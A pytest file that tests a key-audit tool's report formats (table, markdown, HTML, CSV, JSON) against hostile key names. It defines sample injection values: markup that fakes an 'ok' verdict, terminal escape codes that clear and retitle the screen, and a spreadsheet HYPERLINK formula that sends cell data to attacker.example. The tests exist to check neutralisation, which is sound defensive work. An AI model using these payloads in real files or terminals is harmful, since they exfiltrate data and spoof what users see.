"""Names are whoever made the key's words: every audit format shows them as text. Never rich
markup (a crash, or a fake verdict), never a raw terminal escape, never a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.audit.conftest import Org

MARKUP = "batch [/bold] job"
FAKE_OK = "[bold green]ok: managed by prod[/]"
ESCAPE = "\x1b[2J\x1b]0;owned\x07term"  # clear the screen, retitle the window
FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"open")'


@pytest.fixture
def hostile(org: Org) -> Org:
    """prod is ok; four unmanaged keys whose names attack the report."""
    org.env("prod", org.key("prod-1"))
    for name in (MARKUP, FAKE_OK, ESCAPE, FORMULA):
        org.key(name)
    return org


@pytest.mark.parametrize("columns", ["200", "60"])  # one table; rows stacked one by one
def test_the_table_shows_names_as_text(
    hostile: Org, monkeypatch: pytest.MonkeyPatch, columns: str
) -> None:
    monkeypatch.setenv("COLUMNS", columns)
    code, out, err = hostile.cli()
    assert (code, err) == (0, "")
    flat = " ".join(out.replace("│", " ").split())
    for name in (MARKUP, FAKE_OK):
        assert " ".join(name.split()) in flat, out
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b[2J\\x1b]0;owned\\x07term" in out.replace("\n", "").replace(" ", "")
    hostile.assert_no_key_in(out)


def test_the_table_shows_store_text_as_text(org: Org) -> None:
    """A store's metadata (here the previous version's key id) is no markup either."""
    from keyguard.stores.interface import VersionMeta

    prod, old = org.key("prod-1"), org.key("prod-0")
    uri = org.store("prod")
    org.put(
        uri, old, meta=VersionMeta(key_id="[red]x[/] \x1b[31m", hint=old.secret.hint, token="a")
    )
    org.put(uri, prod)
    org.envs["prod"] = {"stores": [uri], "workspace": None, "policy": {}}
    code, out, err = org.cli()
    assert code == 1, err  # metadata that names no key of the value: a violation, shown as text
    assert "[red]x[/]" in out and "\x1b" not in out and "\\x1b[31m" in out


def test_markdown_shows_names_as_text(hostile: Org) -> None:
    code, out, _ = hostile.cli("--format", "markdown")
    assert code == 0
    assert "\x1b" not in out and "\x07" not in out and "\\x1b\\[2J" in out
    assert "batch \\[/bold\\] job" in out  # no link or markup a viewer would render


def test_html_shows_names_as_text(hostile: Org, tmp_path: Path) -> None:
    page = tmp_path / "audit.html"
    code, _, _ = hostile.cli("--format", "html", "--output", str(page))
    text = page.read_text()
    assert code == 0 and "\x1b" not in text and "\x07" not in text
    assert "\\x1b[2J\\x1b]0;owned\\x07term" in text and "batch [/bold] job" in text


def test_csv_neutralizes_formulas_and_escapes(hostile: Org) -> None:
    code, out, _ = hostile.cli("--format", "csv")
    assert code == 0
    names = {r["key_name"] for r in csv.DictReader(io.StringIO(out)) if r["kind"] == "unmanaged"}
    assert "'" + FORMULA in names  # a spreadsheet shows it as text, never as a formula
    assert MARKUP in names and FAKE_OK in names
    assert "\x1b" not in out and "\\x1b[2J\\x1b]0;owned\\x07term" in names


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_quotes_every_formula_start(org: Org, start: str) -> None:
    org.env("prod", org.key("prod-1"))
    org.key(f"{start}1+1")
    code, out, _ = org.cli("--format", "csv")
    assert code == 0
    (row,) = [r for r in csv.DictReader(io.StringIO(out)) if r["kind"] == "unmanaged"]
    assert row["key_name"].startswith("'"), row
    prod = next(r for r in csv.DictReader(io.StringIO(out)) if r["kind"] == "environment")
    assert float(prod["age_days"]) == 1  # numbers stay numbers


def test_json_keeps_names_exact(hostile: Org) -> None:
    code, out, _ = hostile.cli("--format", "json")
    assert code == 0
    names = {u["key_name"] for u in json.loads(out)["unmanaged"]}
    assert names == {MARKUP, FAKE_OK, ESCAPE, FORMULA}  # JSON escapes; a parser gets the truth
    assert "\x1b" not in out
